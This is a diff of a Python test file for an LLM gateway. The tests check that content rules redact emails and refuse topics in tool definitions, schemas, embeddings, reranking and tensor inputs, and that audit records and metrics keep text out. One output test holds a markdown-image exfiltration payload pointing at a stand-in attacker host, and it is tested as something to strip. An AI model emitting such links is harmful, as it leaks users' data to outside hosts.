@@ -7,24 +7,31 @@ in tests/test_gateway.py and tests/test_error_shapes.py; LLM09's citations in te
 import base64
 import json
 import re
-from collections.abc import AsyncGenerator, Callable, Iterator
+from collections.abc import AsyncGenerator, Callable, Iterator, Sequence
 from contextlib import contextmanager
 from dataclasses import dataclass, field, replace
 from typing import Any
 
 import httpx
+import numpy as np
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from starlette.testclient import TestClient
 from starlette.types import ASGIApp, Receive, Scope, Send
 
+from deployments import gateway
 from deployments.gateway import build
+from nexus import telemetry
+from nexus.audit_reading import read as read_record
 from nexus.balancer import Balancer, Member, Weights
 from nexus.config import Content, ContentRule
+from nexus.guard import ModelGuard
 from nexus.pipelines import execute, prompts, rag
+from nexus.ports import InputType
 from nexus.reading import read
-from nexus.types import Delta, Prompt, SearchRequest
+from nexus.screening import Guarding, Screen
+from nexus.types import Delta, Prompt, SearchRequest, Vector, Vectors
 from tests.conftest import Door
 from tests.test_pipelines import READER, passage
 
@@ -61,13 +68,37 @@ class Asker:
     client: TestClient
     headers: dict[str, str]
     model: Saying
+    beside: "Beside"
     records: list[dict[str, Any]]
+
+    def given(self) -> list[object]:
+        """Everything that any model was given."""
+        return [*self.model.asked, *self.beside.given]
 
     def post(self, path: str, **body: object) -> httpx.Response:
         return self.client.post(path, headers=self.headers, json=body)
 
     def chat(self, said: str = QUESTION, model: str = "model", **more: object) -> httpx.Response:
         return self.post("/v1/chat/completions", model=model, messages=[{"role": "user", "content": said}], **more)
+
+
+@dataclass
+class Beside:
+    """The models that say nothing of their own: an embedder, a reranker, and a Triton server that gives back."""
+
+    given: list[object] = field(default_factory=list)
+
+    async def embed(self, texts: Sequence[str], input_type: InputType = "passage") -> Vectors:
+        self.given += texts
+        return np.ones((len(texts), 2), np.float32)
+
+    async def rerank(self, query: str, texts: Sequence[str]) -> Vector:
+        self.given += [query, *texts]
+        return np.linspace(0, 1, len(texts), dtype=np.float32)
+
+    async def infer(self, model: str, inputs: dict[str, Any], *_: object) -> dict[str, Any]:
+        self.given += [element for one in inputs.values() for element in one.ravel().tolist()]
+        return inputs
 
 
 class Recording:
@@ -94,10 +125,14 @@ def asking(
     balancer = Balancer([Member(model, 0.5)], Weights(1, 1, 1), probe_seconds=5)
     config = door.lent.config.model_copy(update={"content": content})
     tools = replace(door.lent.rag, generator=balancer.generator("model"), abstain_below=0.0)
-    lent = replace(door.lent, config=config, balancer=balancer, rag=tools)
+    beside = Beside()
+    lent = replace(
+        door.lent, config=config, balancer=balancer, rag=tools,
+        embedders={"word-embedder": beside}, rerankers={"ranker": beside}, triton=beside,  # type: ignore[arg-type]
+    )  # fmt: skip
     records: list[dict[str, Any]] = []
     with TestClient(Recording(build(lent), records), raise_server_exceptions=False) as client:
-        yield Asker(client, door.headers("acme", "alice"), model, records)
+        yield Asker(client, door.headers("acme", "alice"), model, beside, records)
 
 
 def content(*rules: tuple[str, tuple[str, ...], str, str], **settings: Any) -> Content:
@@ -258,16 +293,61 @@ DOORS: dict[str, tuple[str, Callable[[str], dict[str, object]]]] = {
 }
 
 
-@pytest.mark.parametrize("name", DOORS)
+def with_tool(function: dict[str, object]) -> dict[str, object]:
+    return {
+        "model": "model",
+        "messages": [{"role": "user", "content": "Hm?"}],
+        "tools": [{"type": "function", "function": {"name": "find", **function}}],
+    }
+
+
+def with_schema(**schema: object) -> dict[str, object]:
+    wanted = {"type": "json_schema", "json_schema": {"name": "found", "schema": schema}}
+    return {"model": "model", "messages": [{"role": "user", "content": "Hm?"}], "response_format": wanted}
+
+
+# What a model is given beside what is said to it, and what is asked of models that say nothing.
+BESIDE: dict[str, tuple[str, Callable[[str], dict[str, object]]]] = {
+    "a tool's description": ("/v1/chat/completions", lambda said: with_tool({"description": said})),
+    "a tool's parameter": (
+        "/v1/chat/completions",
+        lambda said: with_tool({"parameters": {"type": "object", "properties": {"a": {"description": said}}}}),
+    ),
+    "the name of a tool's parameter": (
+        "/v1/chat/completions",
+        lambda said: with_tool({"parameters": {"type": "object", "properties": {said: {"type": "string"}}}}),
+    ),
+    "a value of an answer's schema": ("/v1/chat/completions", lambda said: with_schema(enum=["a", said])),
+    "an embedded passage": ("/v1/embeddings", lambda said: {"model": "word-embedder", "input": ["a", said]}),
+    "an embedded query": ("/v1/embeddings", lambda said: {"model": "word-embedder-query", "input": said}),
+    "a query of a ranking": ("/v1/rerank", lambda said: {"model": "ranker", "query": said, "documents": ["a"]}),
+    "a document of a ranking": (
+        "/v1/rerank",
+        lambda said: {"model": "ranker", "query": "a", "documents": ["a", {"text": said}]},
+    ),
+    "a document ranked by an embedder": (
+        "/v1/rerank",
+        lambda said: {"model": "word-embedder", "query": "a", "documents": [said]},
+    ),
+    "a tensor": ("/v2/models/echo/infer", lambda said: tensor(["a", said], [2])),
+    "a tensor of rows": ("/v2/models/echo/infer", lambda said: tensor([["a"], [said]], [2, 1])),
+}
+
+
+def tensor(data: object, shape: list[int]) -> dict[str, object]:
+    return {"inputs": [{"name": "X", "shape": shape, "datatype": "BYTES", "data": data}]}
+
+
+@pytest.mark.parametrize("name", [*DOORS, *BESIDE])
 def test_Q13_no_door_lets_a_refused_input_in(door: Door, name: str) -> None:
     door.house.put("manual.txt", FACT)
-    path, body = DOORS[name]
+    path, body = {**DOORS, **BESIDE}[name]
     with asking(door, NO_PHOENIX) as asker:
         refused = asker.post(path, **body("What of project phoenix?"))
         answer = refused.json()
         assert refused.status_code == 403
         assert (answer["error"] if path.startswith("/v1/") else answer)["code"] == "content_refused"
-        assert asker.model.asked == [] and "phoenix" not in refused.text
+        assert asker.given() == [] and "phoenix" not in refused.text
         assert asker.post(path, **body(QUESTION)).status_code == 200
 
 
@@ -308,6 +388,112 @@ def test_Q13_a_redacted_question_is_what_is_searched_for_and_answered(door: Door
         answer = asker.post("/rag/query", query=f"{QUESTION} Mail bob@example.com").json()
         assert answer["query"] == f"{QUESTION} Mail [mail]"
         assert "bob@" not in repr(asker.model.asked)
+
+
+@pytest.mark.parametrize("name", BESIDE)
+def test_Q13_what_stands_beside_a_question_is_redacted_before_a_model_is_given_it(door: Door, name: str) -> None:
+    path, body = BESIDE[name]
+    with asking(door, content(("mail", ("input",), "redact", "pii:email"))) as asker:
+        assert asker.post(path, **body("Mail bob@example.com now")).status_code == 200
+        given = repr(asker.given())
+        assert "Mail [mail] now" in given and "bob@" not in given
+        assert (asker.records[-1]["verdict"], asker.records[-1]["reason"]) == ("redacted", "input, mail: redacted, 1")
+
+
+@pytest.mark.parametrize("name", BESIDE)
+def test_Q13_what_stands_beside_a_question_reaches_the_model_as_it_is(door: Door, name: str) -> None:
+    path, body = BESIDE[name]
+    with asking(door, NO_PHOENIX) as asker:
+        assert asker.post(path, **body("Grade 3, ok")).status_code == 200
+        assert "Grade 3, ok" in repr(asker.given())
+
+
+def test_Q13_embeddings_and_scores_stay_in_their_places(door: Door) -> None:
+    texts = [f"text {number} of bob@example.com" for number in range(300)]
+    with asking(door, content(("mail", ("input",), "redact", "pii:email"))) as asker:
+        assert len(asker.post("/v1/embeddings", model="word-embedder", input=texts).json()["data"]) == 300
+        assert asker.given() == [f"text {number} of [mail]" for number in range(300)]
+        ranked = asker.post("/v1/rerank", model="ranker", query="q", documents=texts, return_documents=True).json()
+        assert asker.given()[300:] == ["q", *(f"text {number} of [mail]" for number in range(300))]
+        assert ranked["results"][0] == {"index": 299, "relevance_score": 1.0, "document": {"text": texts[299]}}
+
+
+def test_Q13_a_tensor_that_holds_no_text_is_given_as_it_is(door: Door) -> None:
+    picture = b"\xff\xd8bob@example.com\x00"
+    head = json.dumps(
+        {
+            "inputs": [
+                {
+                    "name": "X",
+                    "shape": [2],
+                    "datatype": "BYTES",
+                    "parameters": {"binary_data_size": 2 * 4 + len(picture)},
+                },
+                {"name": "N", "shape": [2], "datatype": "INT32", "data": [1, 2]},
+            ]
+        }
+    ).encode()
+    body = head + len(picture).to_bytes(4, "little") + picture + (0).to_bytes(4, "little")
+    with asking(door, content(("mail", ("input", "output"), "redact", "pii:email"))) as asker:
+        headers = {**asker.headers, "inference-header-content-length": str(len(head))}
+        assert asker.client.post("/v2/models/echo/infer", content=body, headers=headers).status_code in (200, 422)
+        assert asker.given() == [picture, b"", 1, 2]
+
+
+def test_Q13_what_a_server_of_tensors_says_is_output(door: Door) -> None:
+    with asking(door, content(("mail", ("output",), "redact", "pii:email"))) as asker:
+        answer = asker.post("/v2/models/echo/infer", **tensor(["of a@b.org", "é\0"], [2, 1])).json()
+        (output,) = answer["outputs"]
+        assert (output["data"], output["shape"]) == (["of [mail]", "é\0"], [2, 1])
+        assert asker.given() == [b"of a@b.org", "é\0".encode()]
+    with asking(door, NO_PHOENIX.model_copy(update={"rules": NO_PHOENIX.rules[:0]})) as asker:
+        answer = asker.post("/v2/models/echo/infer", **tensor(["![x](https://evil.example/?q=S)"], [1])).json()
+        assert answer["outputs"][0]["data"] == ["[x]"]
+
+
+def test_Q13_what_was_done_about_an_embedded_text_is_on_record(door: Door) -> None:
+    config = door.lent.config.model_copy(update={"content": content(("mail", ("input",), "flag", "pii:email"))})
+    headers = door.headers("acme", "alice")
+    with TestClient(build(replace(door.lent, config=config))) as client:
+        for text in ("nothing", "of a@b.org"):
+            body = {"model": "word-embedder", "input": text}
+            assert client.post("/v1/embeddings", json=body, headers=headers).status_code == 200
+    door.lent.audit.flush()
+    (line,) = read_record(door.lent.config.home)
+    assert (line["kind"], line["verdict"], line["action"]) == ("answer", "flagged", "POST /v1/embeddings")
+    assert line["reason"] == "input, mail: flagged, 1" and line["subject"] == "alice"
+
+
+def verdicts() -> dict[tuple[str, ...], float]:
+    """What the metric has counted, by its labels."""
+    (metric,) = telemetry.content_verdicts.collect()
+    counted = [one for one in metric.samples if one.name == "content_verdicts_total"]
+    return {(one.labels["where"], one.labels["rule"], one.labels["action"]): one.value for one in counted}
+
+
+def test_verdicts_are_counted_by_rule_and_action_and_no_text_is_in_a_label(door: Door) -> None:
+    rules = content(("mail", ("input", "output"), "flag", "pii:email"), ("code", ("input",), "refuse", "phoenix"))
+    before = verdicts()
+    with asking(door, rules, f"bob@example.com {CANARY}") as asker:
+        asker.chat(f"of a@b.org and c@d.org, {CANARY}", stream=True)
+        asker.chat("of phoenix")
+        asker.post("/v1/embeddings", model="word-embedder", input=["a@b.org", "b@c.org", "none"])
+    counted = {labels: value - before.get(labels, 0) for labels, value in verdicts().items()}
+    assert {labels: value for labels, value in counted.items() if value} == {
+        ("input", "mail", "flag"): 3, ("output", "mail", "flag"): 1, ("input", "code", "refuse"): 1,
+    }  # fmt: skip
+    assert CANARY not in telemetry.exposition().decode()
+
+
+def test_a_guard_is_counted_under_one_name_whatever_it_says(door: Door, monkeypatch: pytest.MonkeyPatch) -> None:
+    guarding = Guarding(ModelGuard(Saying(f"unsafe\nS1,{CANARY}")), frozenset({"input"}))
+    monkeypatch.setattr(gateway, "open_screen", lambda _: Screen(guarding=guarding))
+    before = verdicts().get(("input", "guard", "refuse"), 0)
+    with asking(door, Content()) as asker:
+        assert asker.chat().status_code == 403
+        assert asker.records[-1]["reason"] == f"input, guard:S1:{CANARY}: refused, 1"
+    assert verdicts()["input", "guard", "refuse"] == before + 1
+    assert CANARY not in telemetry.exposition().decode()
 
 
 # ── LLM01: retrieved text is data ───────────────────────────────────────────────────────────────
